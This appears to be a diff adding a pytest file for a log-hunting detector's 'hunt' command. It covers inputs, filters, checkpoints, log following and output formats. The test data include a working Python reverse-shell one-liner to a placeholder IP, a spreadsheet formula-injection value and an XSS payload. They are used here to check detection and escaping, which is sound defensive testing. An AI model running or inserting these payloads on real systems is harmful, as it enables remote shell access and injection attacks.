@@ -1,0 +1,274 @@
+"""``flycatcher hunt`` at the command line: inputs, limits, outputs, checkpoints, following, exit codes."""
+
+from __future__ import annotations
+
+import bz2
+import csv
+import gzip
+import json
+import lzma
+import os
+import re
+import signal
+import subprocess
+import sys
+import time
+
+import jsonschema
+import pytest
+from click.testing import CliRunner
+
+from flycatcher.commands import cli
+from flycatcher.core.errors import FlycatcherError
+from flycatcher.hunt import engine, parallel
+from flycatcher.sinks.formats.timeline import asset, digest
+from tests.commands.scan.sarif_schema import SCHEMA
+from tests.hunt.helpers import event, written
+
+LOUD = [
+    "python3",
+    "-c",
+    "import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh')",
+]
+QUIET = ["perl", "-e", "print 1"]
+
+
+def log(*starts, first=1, **named):
+    return "".join(
+        line
+        for serial, argv in enumerate(starts, first)
+        for line in event(serial, argv, exe=f"/usr/bin/{argv[0]}", **named)
+    )
+
+
+def hunt(*words, code=0):
+    result = CliRunner(catch_exceptions=True).invoke(cli, ["hunt", *map(str, words)])
+    if isinstance(result.exception, FlycatcherError):
+        assert result.exception.code == code
+        return result
+    assert result.exit_code == code, (result.output, result.exception)
+    return result
+
+
+def records(path):
+    rows = [json.loads(line) for line in path.read_text().splitlines()]
+    return [row for row in rows if row["schema"] == "flycatcher.detection/1"], rows[-1]["summary"]
+
+
+def report(folder, *words):
+    path = folder / "report.jsonl"
+    hunt(*words, "--format", "jsonl", "-o", path)
+    return records(path)
+
+
+def test_one_line_a_text_the_worst_first(tmp_path, capfd):
+    path = written(tmp_path, log(QUIET, QUIET, LOUD, node="web1"))
+    hunt(path)
+    out = capfd.readouterr().out.splitlines()
+    assert re.match(r"(critical|high) +python argument -c: import socket", out[0])
+    assert out[2].split(None, 1) in (["none", "perl argument -e: print 1"], ["low", "perl argument -e: print 1"])
+    assert out[3].startswith("    2 times, 2023-11-14T22:13:20 on web1 as 0")
+    assert out[4].startswith("3 detections: 1 critical, 2 ")
+    assert out[4].endswith("; 3 starts in 1 log")
+
+
+def test_more_words_show_why_where_and_who(tmp_path, capfd):
+    text = log(["nginx"], pid=5, ppid=1) + log(LOUD, first=2, ppid=5)
+    hunt(written(tmp_path, text), "-v")
+    out = capfd.readouterr().out
+    assert f"    at: {tmp_path}/log:6" in out
+    assert "    started by: nginx" in out
+    assert "    risk: critical" in out
+
+
+@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress])
+def test_packed_logs_and_rotated_series_are_read_in_order(tmp_path, pack):
+    whole = event(1, QUIET, exe="/usr/bin/perl", time=1700000000.0) + event(
+        2, QUIET, exe="/usr/bin/perl", time=1700000500.0
+    )
+    # the first event's records lie in two files
+    written(tmp_path, pack("".join(whole[:2]).encode()), "audit.log.2.gz")
+    written(tmp_path, "".join(whole[2:7]), "audit.log.1")
+    written(tmp_path, "".join(whole[7:]), "audit.log")
+    found, summary = report(tmp_path, tmp_path)
+    assert [each["execution"]["fidelity"]["time"][:19] for each in found] == [
+        "2023-11-14T22:13:20",
+        "2023-11-14T22:21:40",
+    ]
+    assert [each["execution"]["fidelity"]["log"] for each in found] == [
+        f"{tmp_path}/audit.log.2.gz",
+        f"{tmp_path}/audit.log.1",
+    ]
+    assert (summary["logs"], summary["incomplete"]) == (3, 0)
+
+
+def test_folders_globs_and_stdin(tmp_path):
+    (tmp_path / "deep").mkdir()
+    written(tmp_path / "deep", log(QUIET), "a.log")
+    assert len(report(tmp_path, tmp_path / "deep")[0]) == 1
+    assert len(report(tmp_path, f"{tmp_path}/deep/*.log")[0]) == 1
+    done = subprocess.run(
+        [sys.executable, "-m", "flycatcher", "hunt", "-"], input=log(QUIET), capture_output=True, text=True, check=True
+    )
+    assert "1 detection" in done.stdout
+
+
+def test_limits_of_time_host_and_user(tmp_path):
+    text = log(QUIET, time=1700000000.0, node="a") + log(QUIET, first=9, time=1700100000.0, node="b")
+    path = written(tmp_path, text)
+    assert len(report(tmp_path, path, "--since", "2023-11-15")[0]) == 1
+    assert len(report(tmp_path, path, "--until", "2023-11-15T00:00:00Z")[0]) == 1
+    assert len(report(tmp_path, path, "--since", "1h")[0]) == 0
+    assert len(report(tmp_path, path, "--host", "b")[0]) == 1
+    assert len(report(tmp_path, path, "--user", "1000")[0]) == 2
+    assert len(report(tmp_path, path, "--user", "somebody")[0]) == 0
+    hunt(path, "--since", "yesterday-ish", code=2)
+
+
+def test_exit_codes(tmp_path):
+    path = written(tmp_path, log(LOUD))
+    hunt(path, "--fail-on", "high", code=10)
+    hunt(path, "--fail-on", "never", code=0)
+    hunt(tmp_path / "missing", code=3)
+    hunt(written(tmp_path, "no log at all\n" * 50, "text"), code=3)
+    hunt(path, "--from", "nonsense", code=2)
+
+
+def test_an_earlier_report_leaves_only_what_is_new(tmp_path):
+    before, path = tmp_path / "before.jsonl", written(tmp_path, log(QUIET))
+    hunt(path, "-o", before)
+    written(tmp_path, log(QUIET, LOUD))
+    found, summary = report(tmp_path, path, "--only-new", before)
+    assert [each["interpreter"] for each in found] == ["python"]
+    assert summary["known"] == 1
+
+
+def test_a_checkpoint_reads_old_bytes_no_second_time_and_tells_nothing_twice(tmp_path):
+    state, path = tmp_path / "state", written(tmp_path, log(QUIET), "audit.log")
+    words = (path, "--checkpoint", state)
+    assert len(report(tmp_path, *words)[0]) == 1
+    assert report(tmp_path, *words)[1]["bytes"] == 0
+    more = event(2, LOUD, exe="/usr/bin/python3")
+    with path.open("a") as file:
+        file.write("".join(more[:2]) + more[2][:20])  # torn: the writer is still at it
+    first, _ = report(tmp_path, *words)
+    with path.open("a") as file:
+        file.write(more[2][20:] + "".join(more[3:]))
+    second, summary = report(tmp_path, *words)
+    assert [each["interpreter"] for each in (*first, *second)] == ["python"]
+    assert summary["bytes"] < 2 * len("".join(more))
+    path.rename(tmp_path / "audit.log.1")
+    written(tmp_path, log(QUIET, first=20), "audit.log")
+    found, _ = report(tmp_path, tmp_path, "--checkpoint", state)
+    assert [each["execution"]["fidelity"]["log"] for each in found] == [f"{tmp_path}/audit.log"]
+
+
+def test_several_processes_find_the_same(tmp_path, monkeypatch):
+    monkeypatch.setattr(parallel, "PART", 40_000)
+    monkeypatch.setattr(engine, "OVERLAP", 8_000)
+    path = written(tmp_path, "".join(log(["perl", "-e", f"print {n}"], first=n) for n in range(1, 400)), "audit.log")
+    one, _ = report(tmp_path, path)
+    several, _ = report(tmp_path, path, "--jobs", "2")
+    key = [(each["id"], each["execution"]["fidelity"].get("byte", 0)) for each in one]
+    assert len(key) == 399
+    assert [(each["id"], each["execution"]["fidelity"].get("byte", 0)) for each in several] == key
+
+
+def follow(path, *words):
+    command = [sys.executable, "-m", "flycatcher", "hunt", "--follow", path, *words]
+    return subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+
+
+def until(condition):
+    end = time.monotonic() + 60
+    while not condition():
+        assert time.monotonic() < end
+        time.sleep(0.05)
+
+
+def test_a_log_that_is_rotated_is_followed(tmp_path):
+    path, out = written(tmp_path, log(QUIET), "audit.log"), tmp_path / "out.jsonl"
+    with follow(path, "--format", "jsonl", "-o", out) as process:
+        try:
+            until(lambda: out.exists() and out.read_text().count("flycatcher.detection/1") == 1)
+            with path.open("a") as file:
+                file.write(log(LOUD, first=2))
+            path.rename(tmp_path / "audit.log.1")
+            written(tmp_path, log(QUIET, first=30), "audit.log")
+            until(lambda: out.read_text().count("flycatcher.detection/1") == 3)
+        finally:
+            process.send_signal(signal.SIGTERM)
+        process.communicate(timeout=60)
+    assert process.returncode == 0
+    assert [each["interpreter"] for each in records(out)[0]] == ["perl", "python", "perl"]
+
+
+def test_tables_hold_one_row_a_detection_and_no_formula(tmp_path):
+    out = tmp_path / "out.csv"
+    hunt(written(tmp_path, log(["perl", "-e", "=cmd|' /c calc'!A1"])), "-o", out)
+    (row,) = csv.DictReader(out.read_text().splitlines())
+    assert row["text"] == "'=cmd|' /c calc'!A1"
+    assert row["interpreter"] == "perl"
+
+
+def test_parquet_holds_the_same_columns(tmp_path):
+    parquet = pytest.importorskip("pyarrow.parquet")
+    out = tmp_path / "out.parquet"
+    hunt(written(tmp_path, log(QUIET, LOUD)), "-o", out)
+    rows = parquet.read_table(out).to_pylist()
+    assert [row["interpreter"] for row in rows] == ["perl", "python"]
+    assert rows[1]["score"] >= 80
+
+
+def test_the_timeline_runs_no_text_of_a_log(tmp_path):
+    out = tmp_path / "out.html"
+    evil = "print '</script><script>alert(1)</script><img src=x onerror=alert(2)>\u2028'"
+    hunt(written(tmp_path, log(["perl", "-e", evil])), "-o", out)
+    page = out.read_text()
+    assert page.count("<script") == 3
+    assert "<img" not in page
+    assert "alert(1)" in page  # as data
+    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
+    assert policy.startswith(
+        f"default-src 'none'; script-src '{digest(asset('timeline.js'))}'; style-src '{digest(asset('timeline.css'))}'"
+    )
+    assert "http" not in asset("timeline.js")
+    assert ".innerHTML" not in asset("timeline.js")
+    data = json.loads(re.search(r'id="records">(.*?)</script>', page, re.DOTALL)[1])
+    assert data[0]["text"] == evil.replace("\u2028", "\\u2028")
+
+
+def test_sarif_is_valid(tmp_path):
+    out = tmp_path / "out.sarif"
+    hunt(written(tmp_path, log(LOUD)), "-o", out)
+    document = json.loads(out.read_text())
+    jsonschema.validate(document, SCHEMA)
+    assert len(document["runs"][0]["results"]) == 1
+
+
+def test_notices_say_what_the_log_has_lost(tmp_path):
+    out = tmp_path / "out.jsonl"
+    hunt(written(tmp_path, log(QUIET) + log(QUIET, first=11, node="")), "-o", out)
+    rows = [json.loads(line) for line in out.read_text().splitlines()]
+    (notice,) = [row for row in rows if row["schema"] == "flycatcher.notice/1"]
+    assert (notice["kind"], notice["place"], notice["count"]) == ("loss", "serial", 9)
+    assert rows[-1]["summary"]["lost_by_place"] == {"serial": 9}
+
+
+def test_what_the_configuration_accepts_is_not_reported(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    found, _ = report(tmp_path, written(tmp_path, log(QUIET)))
+    (tmp_path / "flycatcher.toml").write_text(
+        f'[[suppress]]\nfingerprint = "{found[0]["id"]}"\nreason = "known since the move"\nowner = "ops"\nuntil = 2099-01-01\n'
+    )
+    found, summary = report(tmp_path, tmp_path / "log")
+    assert (summary["detections"], summary["suppressed"]) == (0, 1)
+    assert found[0]["policy"]["action"] == "suppressed"
+
+
+def test_explain_reads_the_report(tmp_path, capfd):
+    report(tmp_path, written(tmp_path, log(LOUD)))
+    capfd.readouterr()
+    result = CliRunner().invoke(cli, ["explain", "--brief", str(tmp_path / "report.jsonl")])
+    assert "python argument -c" in result.output
+    assert os.environ.get("HOME") is not None
